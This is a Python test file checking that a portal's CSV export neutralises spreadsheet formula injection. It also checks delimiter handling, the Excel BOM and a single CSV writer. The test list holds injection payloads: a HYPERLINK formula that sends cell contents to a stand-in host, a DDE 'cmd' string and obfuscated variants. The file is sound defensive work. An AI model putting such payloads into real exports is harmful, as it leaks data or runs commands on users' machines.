"""A list that is opened in a spreadsheet runs nothing, and Danish Excel reads it."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from portal.web.csv_files import csv_text, harmless

PORTAL = Path(__file__).resolve().parents[3] / "portal"
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"See")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}@SUM(1)",
    "＝1+1",
)
PLAIN = ("Maria", "a=b", "12-34", "demo#staff-karen", "a@example.invalid", "'=1", " ", "")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\N{ZERO WIDTH NO-BREAK SPACE}"), newline=""), delimiter=";"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula: str) -> None:
    assert harmless(formula) == f"'{formula}"
    assert read(csv_text(["Name"], [[formula]]))[1][0] == f"'{formula}"
    assert read(csv_text([formula], []))[0][0] == f"'{formula}"


@pytest.mark.parametrize("field", PLAIN)
def test_what_is_no_formula_stays_as_it_is(field: str) -> None:
    assert harmless(field) == field


def test_our_own_numbers_stay_numbers_and_nothing_is_nothing() -> None:
    assert csv_text(["a", "b"], [[-5, None]]).splitlines()[1] == "-5;"


def test_a_field_cannot_begin_another_field_or_line() -> None:
    rows = [["a;=1+1", 'b"\r\n=2+2', "c"], ["d", "e", "f"]]
    assert read(csv_text(["x", "y", "z"], rows)) == [["x", "y", "z"], *rows]


def test_excel_is_told_how_letters_are_written() -> None:
    assert csv_text(["Ærø"], []).encode() == b"\xef\xbb\xbf\xc3\x86r\xc3\xb8\r\n"


def test_there_is_one_way_to_write_csv() -> None:
    writers = {
        str(path.relative_to(PORTAL))
        for path in PORTAL.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and ast.unparse(node) in ("csv.writer", "csv.DictWriter")
    }
    assert writers == {"web/csv_files.py"}
